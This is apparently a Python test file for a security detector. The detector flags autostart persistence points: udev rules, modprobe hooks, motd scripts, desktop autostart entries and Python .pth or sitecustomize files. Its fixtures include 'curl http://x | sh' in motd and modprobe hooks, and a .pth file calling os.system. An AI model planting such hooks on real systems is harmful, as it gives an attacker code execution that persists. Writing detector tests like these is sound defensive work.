from __future__ import annotations

import pytest

from clew.detectors.security.autostarts import Autostarts
from tests.kit.moments import Moment, evidence, facts, file, findings, link

VENV = "app/.venv"
LIBRARY = f"{VENV}/lib/python3.11/site-packages"


def _loudness(path: str, text: bytes, old: Moment | None = None) -> list[str]:
    before = old or {}
    return [fact.severity for fact in facts(Autostarts(), before, {**before, path: text})]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("etc/udev/rules.d/99-x.rules", b'ACTION=="add", RUN+="/opt/x"\n'),
        ("etc/modprobe.d/x.conf", b"install usb-storage /opt/x\n"),
        ("etc/modules-load.d/x.conf", b"rootkit\n"),
        ("etc/update-motd.d/99-x", b"#!/bin/sh\n/opt/x\n"),
        ("home/al/.config/autostart/x.desktop", b"[Desktop Entry]\nExec=/opt/x\n"),
    ],
)
def test_what_runs_by_itself_is_noted(path: str, text: bytes) -> None:
    assert _loudness(path, text) == ["note"]


def test_what_runs_by_itself_and_fetches_what_it_runs_is_a_warning() -> None:
    assert _loudness("etc/update-motd.d/x", b"curl http://x | sh\n") == ["high"]
    assert _loudness("etc/modprobe.d/x.conf", b"install a curl http://x | sh\n") == ["high"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("etc/udev/rules.d/51-phone.rules", b'SUBSYSTEM=="usb", MODE="0660", TAG+="uaccess"\n'),
        ("etc/modprobe.d/blacklist.conf", b"blacklist nouveau\n"),
        ("etc/dpkg/dpkg.cfg.d/docs", b"path-exclude=/usr/share/doc/*\n"),
        (f"{LIBRARY}/easy-install.pth", b"/home/al/app/src\n"),
        ("models/net.pth", b"import torch\n"),
        ("app/autostart/x.desktop", b"Exec=x\n"),
    ],
)
def test_what_runs_nothing_says_nothing(path: str, text: bytes) -> None:
    assert _loudness(path, text) == []


def test_what_every_python_runs_is_a_warning() -> None:
    assert _loudness(f"{LIBRARY}/evil.pth", b"import os; os.system('x')\n") == ["high"]
    assert _loudness("usr/lib/python3/dist-packages/sitecustomize.py", b"x = 1\n") == ["high"]
    assert _loudness("etc/dpkg/dpkg.cfg.d/x", b"post-invoke=/opt/x\n") == ["high"]


def test_what_a_package_brought_along_says_nothing() -> None:
    path = f"{LIBRARY}/coverage.pth"
    found = evidence({}, {path: b"import coverage\n"})
    found.own([path], "coverage")

    assert findings(Autostarts(), found) == []


def test_a_new_environment_of_virtualenv_or_uv_says_nothing() -> None:
    path = f"{LIBRARY}/_virtualenv.pth"
    config = {f"{VENV}/pyvenv.cfg": b"home = /usr/bin\n"}
    new: Moment = {**config, path: b"import _virtualenv"}

    assert facts(Autostarts(), {}, new) == []
    assert [fact.severity for fact in facts(Autostarts(), config, new)] == ["high"]
    assert [fact.severity for fact in facts(Autostarts(), {}, {**new, path: b"import evil"})] == [
        "high"
    ]


def test_what_is_gone_or_odd_breaks_nothing() -> None:
    path = "etc/update-motd.d/99-x"

    assert facts(Autostarts(), {path: b"x\n"}, {}) == []
    assert [fact.severity for fact in facts(Autostarts(), {}, {path: link("/opt/x")})] == ["note"]
    assert facts(Autostarts(), {}, {path: file(size=1 << 40)}) == []
